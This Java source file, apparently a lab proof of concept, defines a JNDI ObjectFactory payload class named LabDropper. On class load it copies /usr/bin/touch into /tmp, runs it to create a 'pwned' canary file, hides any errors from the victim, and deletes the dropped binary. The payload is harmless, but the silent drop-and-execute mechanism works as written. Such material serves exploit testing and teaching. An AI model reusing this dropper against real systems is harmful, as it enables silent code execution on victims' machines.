import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardCopyOption;
import java.util.Hashtable;
import java.util.concurrent.TimeUnit;
import javax.naming.Context;
import javax.naming.Name;
import javax.naming.spi.ObjectFactory;

/**
 * A dropper: its static initializer writes a binary into /tmp under a fresh name, makes it
 * executable and runs it directly - no shell, no interpreter, a program nobody has heard of.
 * The "second stage" is a copy of {@code /usr/bin/touch}, run as {@code /tmp/lab-stage2-... pwned}:
 * it creates the canary file {@code pwned} in the victim's working directory. The dropped file
 * is removed afterwards.
 */
public class LabDropper implements ObjectFactory {
    static {
        Path dropped = Path.of("/tmp",
                "lab-stage2-" + ProcessHandle.current().pid() + "-" + System.nanoTime());
        try {
            Files.copy(Path.of("/usr/bin/touch"), dropped, StandardCopyOption.REPLACE_EXISTING);
            dropped.toFile().setExecutable(true, false);
            Process stage2 = Runtime.getRuntime().exec(new String[] {dropped.toString(), "pwned"});
            stage2.waitFor(5, TimeUnit.SECONDS);
        } catch (Exception e) {
            // A payload keeps quiet: the victim must not notice anything.
        } finally {
            try {
                Files.deleteIfExists(dropped);
            } catch (Exception e) {
                // Nothing to do.
            }
        }
    }

    @Override
    public Object getObjectInstance(Object obj, Name name, Context ctx, Hashtable<?, ?> env) {
        return "pwned-by-LabDropper";
    }
}
